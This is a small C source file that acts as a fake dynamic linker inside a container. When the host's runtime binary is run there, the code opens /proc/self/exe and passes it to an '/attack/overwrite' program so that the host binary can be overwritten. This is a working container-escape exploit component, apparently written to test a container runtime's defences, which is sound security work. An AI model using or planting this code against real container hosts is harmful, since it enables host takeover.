/* SPDX-License-Identifier: Apache-2.0 */
/*
 * In the place of the dynamic linker of a container: where the host's program is executed inside, this is
 * what runs in its name. It opens the program and hands it to /attack/overwrite. Without libc, which would
 * take the host's program for its own.
 */
#include <linux/fcntl.h>
#include <sys/syscall.h>

#if defined(__x86_64__)
static long call3(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}
__asm__(".global _start\n_start:\n\tand $-16, %rsp\n\tcall attack\n\thlt\n");
#elif defined(__aarch64__)
static long call3(long number, long a, long b, long c) {
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    __asm__ volatile("svc #0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
    return x0;
}
__asm__(".global _start\n_start:\n\tbl attack\n");
#else
#error "this attack has no system call for this architecture"
#endif

__attribute__((noreturn, used)) void attack(void);
void attack(void) {
    const long fd = call3(SYS_openat, AT_FDCWD, (long)"/proc/self/exe", 0);
    char number[3] = {(char)('0' + fd / 10), (char)('0' + fd % 10), 0};
    const char* const arguments[] = {"overwrite", number, 0};
    const char* const environment[] = {0};
    if (fd >= 0) call3(SYS_execve, (long)"/attack/overwrite", (long)arguments, (long)environment);
    for (;;) call3(SYS_exit_group, 99, 0, 0);
}
